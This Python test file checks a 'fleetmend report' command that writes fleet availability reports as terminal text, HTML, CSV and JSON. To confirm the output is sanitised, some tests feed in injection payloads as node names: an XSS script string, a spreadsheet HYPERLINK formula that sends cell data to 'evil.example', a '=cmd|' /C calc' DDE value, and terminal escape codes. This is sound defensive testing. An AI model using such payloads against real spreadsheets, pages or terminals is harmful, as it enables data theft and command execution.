"""`fleetmend report`: from a controller and from a file, in a terminal, as HTML, CSV and JSON."""

from __future__ import annotations

import csv
import gzip
import html.parser
import json
from pathlib import Path

import msgspec
import pytest

from cli.exit_codes import ExitCode
from cli.report_files import harmless
from controller.api.report_tables import tables
from controller.events import NodePlaced
from controller.policy.reporting.shapes import Report
from controller.store.cloud_events import cloud_event
from tests.cli.conftest import Run, ServedCell, run_cli
from tests.support.told_log import BEGIN, FACTS, HOUR, ToldLog, lost_gpu
from wire.messages import NodeFacts

HOSTILE = "\"><script>alert(1)</script>' onload='alert(1)"
FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
ESCAPE = "\x1b[2J\x1b]0;owned\x07[red]bold[/red]"


@pytest.fixture
def log() -> ToldLog:
    """Two nodes for ten hours, of which one was mended."""
    log = ToldLog().node("n1", "n2")
    log.repaired("n1", HOUR)
    return log.say(10 * HOUR, NodePlaced("n2", {"rack": ["r1"]}))


def written(log: ToldLog, file: Path) -> Path:
    """Write a log as `fleetmend controller export` prints it."""
    content = b"".join(cloud_event(entry, "main") + b"\n" for entry in log.log)
    file.write_bytes(gzip.compress(content) if file.suffix == ".gz" else content)
    return file


@pytest.mark.parametrize("name", ["log.jsonl", "log.jsonl.gz"])
def test_a_file_is_reported_on_without_a_controller(log: ToldLog, tmp_path: Path, name: str) -> None:
    result = run_cli("report", "--log", str(written(log, tmp_path / name)), "--json")
    assert (result.returncode, result.stderr) == (0, "")
    report = msgspec.json.decode(result.stdout, type=Report)
    assert report.span.since == BEGIN and report.span.until == pytest.approx(BEGIN + 10 * HOUR)
    assert report.availability.nodes == pytest.approx(1 - 890 / 72_000)


def test_a_terminal_shows_the_figures(log: ToldLog, tmp_path: Path) -> None:
    file = written(log, tmp_path / "log.jsonl")
    result = run_cli("report", "--log", str(file), "--gpu-hour-price", "2.5", "--currency", "EUR")
    assert (result.returncode, result.stderr) == (0, "")
    lines = [" ".join(line.split()) for line in result.stdout.splitlines()]
    assert "availability 98.76 % of nodes" in lines
    assert "lost 1.98 GPU-h 4.94 EUR" in lines
    assert "MTTR 15 min 1 return" in lines
    assert "fault gpu lost repair 0.167 1.33 3.33" in lines
    assert any(line.startswith("held out 1.24 % 0.247 node-h █") for line in lines)
    assert not any("probability" in line or "None" in line for line in lines)


def test_a_controller_is_asked(served: ServedCell, run: Run) -> None:
    served.cell.clock.now += 3600.0
    result = run("report", "--since", "1h", "--json")
    assert (result.returncode, result.stderr) == (0, "")
    assert json.loads(result.stdout)["span"]["nodes"] == 10
    shown = run("report")
    assert shown.returncode == 0 and "10 nodes, 10 of them simulated, 80 GPUs" in shown.stdout
    refused = run("report", "--since", "soon")
    assert refused.returncode == ExitCode.USAGE and "'soon' is no moment (since); 7d, 12h" in refused.stderr


def test_tables_are_written_a_file_each(log: ToldLog, tmp_path: Path) -> None:
    file, folder = written(log, tmp_path / "log.jsonl"), tmp_path / "deep" / "tables"
    result = run_cli("report", "--log", str(file), "--csv", str(folder))
    assert (result.returncode, result.stdout) == (0, "")
    assert {path.stem for path in folder.iterdir()} == {table.name for table in tables(log.report(HOUR))}
    with (folder / "nodes.csv").open() as lines:
        rows = list(csv.DictReader(lines))
    assert [(row["node"], float(row["held_out_h"])) for row in rows] == [("n1", pytest.approx(890 / 3600)), ("n2", 0.0)]
    with (folder / "failures.csv").open() as lines:
        storage = next(row for row in csv.DictReader(lines) if row["name"] == "storage")
    assert storage["mtbf_h"] == "", "what is not known is empty, not zero"


def test_no_cell_of_a_table_is_a_formula(tmp_path: Path) -> None:
    """Names of nodes, SKUs and racks come from elsewhere, and a spreadsheet would run them."""
    facts = NodeFacts(gpu_model=FORMULA, gpu_count=8, places={"rack": ["@SUM(A1)", "+1", "-1"]})
    log = ToldLog().node("=cmd|' /C calc'!A0", facts=facts).node("n2", at=HOUR)
    folder = tmp_path / "tables"
    assert run_cli("report", "--log", str(written(log, tmp_path / "l")), "--csv", str(folder)).returncode == 0
    seen = []
    for path in folder.iterdir():
        with path.open(newline="") as lines:
            seen += [value for row in csv.reader(lines) for value in row]
    assert not [value for value in seen if value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert {f"'{FORMULA}", "'=cmd|' /C calc'!A0", "'@SUM(A1)", "'+1", "'-1"} <= set(seen)


def test_numbers_stay_numbers() -> None:
    assert [harmless(value) for value in (-1.5, None, "a-b", "-x", "\tx")] == [-1.5, None, "a-b", "'-x", "'\tx"]


class Elements(html.parser.HTMLParser):
    """The elements of a page, their attributes, and its text."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keep an element."""
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        """Keep text."""
        self.words += data


def test_the_page_needs_nothing_else_and_takes_no_markup_from_names(tmp_path: Path) -> None:
    facts = NodeFacts(gpu_model=HOSTILE, gpu_count=8, places={"rack": [HOSTILE]})
    log = ToldLog().node("<b>n1", facts=facts)
    log.repaired("<b>n1", HOUR)
    source = written(log.node("n2", at=2 * HOUR), tmp_path / "<i>log.jsonl")
    file = tmp_path / "report.html"
    result = run_cli("report", "--log", str(source), "--html", str(file))
    assert (result.returncode, result.stdout) == (0, "")
    parsed = Elements()
    parsed.feed(file.read_text())
    tags = {tag for tag, _ in parsed.elements}
    assert {"svg", "table", "style", "figure"} <= tags and tags.isdisjoint(
        {"script", "link", "img", "iframe", "b", "i"}
    )
    names = {name for _, attributes in parsed.elements for name in attributes}
    assert names.isdisjoint({"onload", "onerror", "src", "href", "style"})
    assert HOSTILE in parsed.words and "<b>n1" in parsed.words and "url(" not in file.read_text()
    policy = [a["content"] for tag, a in parsed.elements if tag == "meta" and "http-equiv" in a]
    assert policy == ["default-src 'none'; style-src 'unsafe-inline'"]


def test_hostile_names_do_not_steer_the_terminal(tmp_path: Path) -> None:
    facts = NodeFacts(gpu_model=ESCAPE, gpu_count=8, places={"rack": [ESCAPE]})
    log = ToldLog().node(ESCAPE, facts=facts).node("n2", at=HOUR)
    shown = run_cli("report", "--log", str(written(log, tmp_path / "log"))).stdout
    assert "\x1b" not in shown and "\x07" not in shown and "[red]bold[/red]" in shown


@pytest.mark.parametrize(
    ("content", "code", "said"),
    [
        (b"", ExitCode.BAD_DATA, "has no entry"),
        (b"\x00\xff\n", ExitCode.BAD_DATA, "line 1: it is no entry of an exported log, or is cut off"),
        (b'{"type": "x"}\n', ExitCode.BAD_DATA, "line 1: 'x' is no event of this version"),
    ],
)
def test_what_is_no_log_is_named_by_its_line(tmp_path: Path, content: bytes, code: ExitCode, said: str) -> None:
    file = tmp_path / "log.jsonl"
    file.write_bytes(content)
    result = run_cli("report", "--log", str(file))
    assert (result.returncode, result.stdout) == (code, "") and said in result.stderr
    assert "Traceback" not in result.stderr


def test_a_log_that_is_cut_off_is_named_by_its_line(log: ToldLog, tmp_path: Path) -> None:
    file = written(log, tmp_path / "log.jsonl")
    file.write_bytes(file.read_bytes()[:-20])
    result = run_cli("report", "--log", str(file))
    assert result.returncode == ExitCode.BAD_DATA and f"line {len(log.log)}: " in result.stderr


def test_a_compressed_log_that_is_damaged_is_said_to_be(log: ToldLog, tmp_path: Path) -> None:
    file = written(log, tmp_path / "log.gz")
    file.write_bytes(file.read_bytes()[:-20])
    result = run_cli("report", "--log", str(file))
    assert result.returncode == ExitCode.BAD_DATA and "is compressed and damaged after line " in result.stderr


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [
        (("--log", "/nowhere/log"), ExitCode.NO_INPUT, "/nowhere/log cannot be read"),
        (("--log", "{log}", "--since", "soon"), ExitCode.USAGE, "--since: 'soon' is no moment"),
        (("--log", "{log}", "--since", "2100-01-01"), ExitCode.USAGE, "nothing of that lies in the span"),
        (("--log", "{log}", "--html", "/nowhere/r.html"), ExitCode.NO_OUTPUT, "/nowhere/r.html cannot be written"),
        (("--log", "{log}", "--csv", "/proc/tables"), ExitCode.NO_OUTPUT, "/proc/tables cannot be made"),
        (("--gpu-hour-price", "2"), ExitCode.USAGE, "go with --log"),
        (("--log", "{log}", "--gpu-hour-price", "-2"), ExitCode.USAGE, "--gpu-hour-price"),
        (("--url", "http://127.0.0.1:9"), ExitCode.UNREACHABLE, "no controller answers"),
    ],
)
def test_what_cannot_be_done_is_said(
    log: ToldLog, tmp_path: Path, arguments: tuple[str, ...], code: ExitCode, said: str
) -> None:
    file = written(log, tmp_path / "log.jsonl")
    result = run_cli("report", *(argument.format(log=file) for argument in arguments))
    assert result.returncode == code and said in result.stderr


def test_a_long_table_says_that_there_is_more(tmp_path: Path) -> None:
    log = ToldLog().node(*(f"n{number:02}" for number in range(40)), facts=FACTS)
    log.fault("n01", HOUR, finding=lost_gpu())
    assert "and 25 more: --csv, --json" in run_cli("report", "--log", str(written(log, tmp_path / "l"))).stdout
